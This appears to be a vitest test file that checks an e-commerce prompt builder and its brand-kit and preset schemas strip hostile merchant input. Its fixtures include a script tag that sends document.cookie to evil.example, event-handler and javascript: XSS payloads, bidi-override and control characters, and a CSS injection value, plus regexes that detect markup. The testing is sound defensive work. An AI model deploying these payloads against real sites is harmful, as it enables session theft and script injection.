import { describe, expect, it } from "vitest";
import { brandKitSchema, type BrandKit } from "~/generation/presets/brand-kit";
import { customPresetSchema, toPreset } from "~/generation/presets/custom-preset";
import { PRESET_LIBRARY } from "~/generation/presets/library";
import type { Preset } from "~/generation/presets/types";
import { planVariations } from "~/generation/presets/variations";
import { buildPrompt, type PromptProduct } from "~/generation/prompt/build-prompt.server";

/**
 * Merchant text is untrusted: product fields, custom presets and the brand
 * kit. Whatever goes in, the prompt that comes out is bounded by the model's
 * limit, carries no markup (tags, event handlers, comments), no control or
 * bidirectional-override characters and no broken surrogates, and still
 * keeps legitimate right-to-left text and emoji.
 */

const SCRIPT = `<script>fetch("https://evil.example/?c="+document.cookie)</script>`;
const HANDLER = `<img src=x onerror="alert(1)"><a href="javascript:alert(2)" onclick=alert(3)>click</a>`;
const BROKEN = `<div><p>Unclosed <b>bold <i>and <table><tr><td>cell<svg onload=alert(4)><!-- open comment <p`;
const ENCODED = "&lt;script&gt;alert(5)&lt;/script&gt; &lt;img src=x onerror=alert(6)&gt;";
const RTL = "قميص قطني ناعم للصيف — חולצת כותנה";
const EMOJI = "Summer 👩🏽‍🚀🇯🇵 tee ✨";
const BIDI = "\u202Eevil\u202C \u2066isolated\u2069";
const CONTROL = "null\u0000bell\u0007escape\u001b[31mred";
const MEGABYTE = `<p>${"Soft organic cotton. ".repeat(50_000)}</p>`;

const hostileStrings = { SCRIPT, HANDLER, BROKEN, ENCODED, RTL, EMOJI, BIDI, CONTROL };

function product(overrides: Partial<PromptProduct>): PromptProduct {
  return {
    title: "Organic Cotton Tee",
    descriptionHtml: "<p>A soft tee.</p>",
    productType: "T-Shirt",
    vendor: "Loom Theory",
    tags: ["summer"],
    options: [{ name: "Colour", values: ["Sage"] }],
    ...overrides,
  };
}

const kit: BrandKit = { enabled: true, palette: ["#1f3a5f"], moodWords: ["calm"], avoid: ["neon colours"] };

/** Anything a browser or an HTML-aware tool would read as markup. */
const MARKUP = /<\s*\/?\s*[a-z!?][^]*?>|<\s*\/?\s*(?:script|img|svg|iframe|a|div|p|b|i)\b|\son\w+\s*=|javascript:/i;
// eslint-disable-next-line no-control-regex -- finding control characters is the purpose
const FORBIDDEN_CHARS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

/**
 * `plainText`: the field is plain text (a title, a preset line), so "&lt;" in
 * it is literally those four characters, not markup; only the bounds apply.
 */
const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

function expectClean(prompt: string, max: number, what: string, plainText = false) {
  expect(prompt.length, what).toBeLessThanOrEqual(max);
  expect(prompt, `${what}: half of a character`).not.toMatch(LONE_SURROGATE);
  if (plainText) return;
  // The description block's own <<< >>> delimiters are the app's, not markup.
  const withoutDelimiters = prompt.replace(/^<<<$|^>>>$/gm, "");
  expect(withoutDelimiters, what).not.toMatch(MARKUP);
  expect(prompt, what).not.toMatch(FORBIDDEN_CHARS);
  expect(prompt, what).not.toContain("alert(");
  expect(prompt, what).not.toContain("document.cookie");
}

function build(p: PromptProduct, preset: Preset, max: number, brandKit: BrandKit = kit) {
  const [variation] = planVariations({ preset, count: 1, seed: 7 });
  return buildPrompt({ product: p, preset, variation: variation!, brandKit, limits: { maxPromptChars: max } });
}

const presets = [PRESET_LIBRARY[0]!, PRESET_LIBRARY.find((p) => p.category === "on-model") ?? PRESET_LIBRARY[1]!];
const limits = [1000, 4000, 32_000];

describe("hostile product text through the prompt builder", () => {
  const fields: (keyof PromptProduct)[] = ["title", "descriptionHtml", "productType", "vendor", "tags", "options"];
  for (const field of fields) {
    for (const [name, text] of Object.entries(hostileStrings)) {
      it(`${field} with ${name}`, () => {
        const value =
          field === "tags" ? [text, text] : field === "options" ? [{ name: text, values: [text, `${text} 2`] }] : text;
        for (const preset of presets) {
          for (const max of limits) {
            expectClean(build(product({ [field]: value }), preset, max).prompt, max, `${preset.id}/${max}`, name === "ENCODED" && field !== "descriptionHtml");
          }
        }
      });
    }
  }

  it("1 MB of description is cut to the model's limit, quickly enough to be called per item", () => {
    for (const max of limits) {
      const built = build(product({ descriptionHtml: MEGABYTE, title: MEGABYTE.slice(0, 100_000) }), presets[0]!, max);
      expectClean(built.prompt, max, `1 MB at ${max}`);
      // The description has its own cap below the larger limits; only the smallest limit shortens more.
      expect(built.prompt.length).toBeLessThan(2500);
      if (max === 1000) expect(built.truncated).toBe(true);
    }
  });

  it("keeps right-to-left text and whole emoji", () => {
    const built = build(product({ title: EMOJI, descriptionHtml: `<p>${RTL}</p>` }), presets[0]!, 32_000);
    expect(built.prompt).toContain("قميص قطني ناعم للصيف");
    expect(built.prompt).toContain("👩🏽‍🚀🇯🇵");
  });

  it("cuts inside emoji without leaving half a character", () => {
    const emojiWall = "😀".repeat(5000);
    for (let max = 300; max < 1400; max += 37) {
      expectClean(build(product({ title: emojiWall, descriptionHtml: emojiWall }), presets[0]!, max).prompt, max, `emoji at ${max}`);
    }
  });
});

describe("hostile brand-kit and custom-preset fields", () => {
  it("the brand kit refuses markup and control characters, naming the field", () => {
    for (const text of [SCRIPT, HANDLER, BROKEN, CONTROL, BIDI]) {
      const parsed = brandKitSchema.safeParse({ enabled: true, palette: [], moodWords: [text], avoid: [text] });
      expect(parsed.success, text).toBe(false);
      expect(parsed.error!.issues.map((i) => i.path[0])).toEqual(expect.arrayContaining(["moodWords", "avoid"]));
    }
    expect(brandKitSchema.safeParse({ enabled: true, palette: ["red;background:url(x)"], moodWords: [], avoid: [] }).success).toBe(false);
    expect(brandKitSchema.safeParse({ enabled: true, palette: [], moodWords: ["x".repeat(31)], avoid: [] }).success).toBe(false);
  });

  it("a custom preset carrying markup is refused, or its prompt is clean and bounded", () => {
    const base = {
      name: "Sunlit shelf",
      category: "studio",
      template: "Photograph of {product} on {scene}, {angle}, {lighting}.",
      size: "1024x1024",
      quality: "low",
      studioScene: { kind: "paper", palette: ["#e6d8c3"], light: "left", vignette: 0.1, reflection: 0 },
      scenes: ["a sunlit shelf"],
      angles: ["front view"],
      lighting: ["soft light"],
      avoid: ["clutter"],
    };
    expect(customPresetSchema.safeParse(base).success).toBe(true);
    for (const [name, text] of Object.entries(hostileStrings)) {
      const attempts = [
        { ...base, name: text },
        { ...base, template: `${text} Photograph of {product} on {scene}, {angle}, {lighting}.` },
        { ...base, scenes: [text] },
        { ...base, angles: [text] },
        { ...base, lighting: [text] },
        { ...base, avoid: [text] },
        { ...base, template: `Photograph of {product} ${"on a shelf ".repeat(200)}` },
      ];
      for (const attempt of attempts) {
        const parsed = customPresetSchema.safeParse(attempt);
        if (!parsed.success) {
          expect(parsed.error.issues[0]!.message.length).toBeGreaterThan(10);
          continue;
        }
        const preset = toPreset("c1", parsed.data);
        for (const max of limits) {
          expectClean(build(product({}), preset, max).prompt, max, `${JSON.stringify(attempt).slice(0, 80)} at ${max}`, name === "ENCODED");
        }
      }
    }
  });
});
